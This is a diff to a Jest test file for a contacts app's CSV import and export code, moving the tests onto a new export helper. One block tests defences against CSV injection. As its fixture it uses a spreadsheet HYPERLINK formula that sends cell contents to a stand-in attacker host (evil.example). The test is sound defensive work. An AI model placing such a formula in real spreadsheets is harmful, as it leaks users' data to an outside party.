@@ -1,9 +1,10 @@
 /** @jest-environment node */
 import fc from "fast-check";
 import { validBirthday } from "../support/arbitraries";
-import { detectDelimiter, normalizeHeader, parseCsv, parseCsvDate, parseCsvRecords, toCsv } from "@/lib/contacts/csv";
+import { exportText } from "../support/export";
+import { detectDelimiter, normalizeHeader, parseCsv, parseCsvDate, parseCsvRecords } from "@/lib/contacts/csv";
 import { formatOfFile } from "@/lib/contacts/format";
-import { duplicateKey, exportFile, readImport } from "@/lib/contacts/import";
+import { duplicateKey, readImport } from "@/lib/contacts/import";
 import { AppError } from "@/lib/http/errors";
 
 describe("parseCsvRecords", () => {
@@ -197,9 +198,9 @@ describe("readImport of a CSV file", () => {
   });
 });
 
-describe("toCsv", () => {
+describe("the CSV export", () => {
   it("writes a header, CRLF rows, quotes where needed and --MM-DD without a year; the file starts with a BOM", () => {
-    const file = exportFile("csv", [
+    const file = exportText("csv", [
       { name: 'Ona "O" Žukauskienė', date: "2000-02-29", birthYear: null, email: null, notes: "a,b\nc" },
       { name: "Пётр", date: "1990-07-15", birthYear: 1990, email: "p@example.com", notes: null },
     ]);
@@ -207,7 +208,7 @@ describe("toCsv", () => {
     expect(file.content).toBe(
       '\uFEFFName,Birthday,Email,Notes\r\n"Ona ""O"" Žukauskienė",--02-29,,"a,b\nc"\r\nПётр,1990-07-15,p@example.com,\r\n',
     );
-    expect(toCsv([])).toBe("Name,Birthday,Email,Notes\r\n");
+    expect(exportText("csv", []).content).toBe("\uFEFFName,Birthday,Email,Notes\r\n");
   });
 });
 
@@ -215,12 +216,12 @@ describe("CSV export against spreadsheet formulas (CSV injection)", () => {
   const attack = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
 
   it("puts a single quote before text starting with = + - @ a tab or a carriage return, and quotes the cell", () => {
-    const rows = toCsv([
+    const rows = exportText("csv", [
       { name: attack, date: "1990-07-15", birthYear: 1990, email: "@x@example.com", notes: "+1 555" },
       { name: "-2+3", date: "2000-02-29", birthYear: null, email: null, notes: "\tcmd" },
       { name: "@SUM(1)", date: "1990-01-01", birthYear: 1990, email: null, notes: "\rx" },
       { name: "'=already quoted", date: "1990-01-02", birthYear: 1990, email: null, notes: "Bob = friend" },
-    ]).split("\r\n");
+    ]).content.split("\r\n");
     expect(rows.slice(1, 5)).toEqual([
       `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")",1990-07-15,"'@x@example.com","'+1 555"`,
       `"'-2+3",--02-29,,"'\tcmd"`,
@@ -235,7 +236,7 @@ describe("CSV export against spreadsheet formulas (CSV injection)", () => {
       { name: "'=already quoted", date: "2000-02-29", birthYear: null, email: null, notes: "'plain quote" },
       { name: "-Minus", date: "1990-01-02", birthYear: 1990, email: null, notes: "@home" },
     ];
-    const { candidates } = readImport({ format: "csv", content: exportFile("csv", birthdays).content });
+    const { candidates } = readImport({ format: "csv", content: exportText("csv", birthdays).content });
     expect(candidates).toEqual(birthdays.map((birthday) => ({ ...birthday, line: expect.any(Number) })));
   });
 });
@@ -263,7 +264,7 @@ describe("CSV properties", () => {
     });
     fc.assert(
       fc.property(lists, (birthdays) => {
-        const { content } = exportFile("csv", birthdays);
+        const { content } = exportText("csv", birthdays);
         const { candidates, skipped } = readImport({ format: "csv", content });
         expect(skipped).toEqual([]);
         expect(candidates).toEqual(birthdays.map((birthday) => expect.objectContaining({ ...birthday, line: expect.any(Number) })));
